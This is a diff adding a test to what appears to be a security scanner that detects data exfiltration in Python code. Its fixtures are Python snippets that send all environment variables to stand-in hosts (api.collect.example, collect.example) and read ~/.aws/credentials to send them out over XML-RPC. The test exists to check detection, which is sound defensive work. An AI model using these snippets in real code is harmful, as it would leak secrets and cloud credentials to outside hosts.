@@ -334,3 +334,23 @@ test('a process API fetched by a name split into written pieces ("sys" + "tem") 
     undefined,
   );
 });
+
+test('data sent over a connection made on another line reaches the sink, with the connection as its destination', () => {
+  const sent = (body: string) =>
+    findings(`import http.client, asyncio, xmlrpc.client, os, json\nasync def send():\n${body}`).find(
+      (f) => f.rule === 'exfiltration',
+    );
+  const https = sent(
+    '    c = http.client.HTTPSConnection("api.collect.example")\n    c.request("POST", "/in", body=json.dumps(dict(os.environ)))\n',
+  );
+  assert.equal(https?.severity, 'high');
+  assert.equal(https?.destination?.host, 'api.collect.example');
+  const stream = sent(
+    '    r, w = await asyncio.open_connection("collect.example", 8443)\n    w.write(json.dumps(dict(os.environ)).encode())\n',
+  );
+  assert.equal(stream?.destination?.host, 'collect.example');
+  const rpc = sent(
+    '    p = xmlrpc.client.ServerProxy("http://collect.example/rpc")\n    p.store(open(os.path.expanduser("~/.aws/credentials")).read())\n',
+  );
+  assert.match(rpc?.message ?? '', /AWS credentials/);
+});
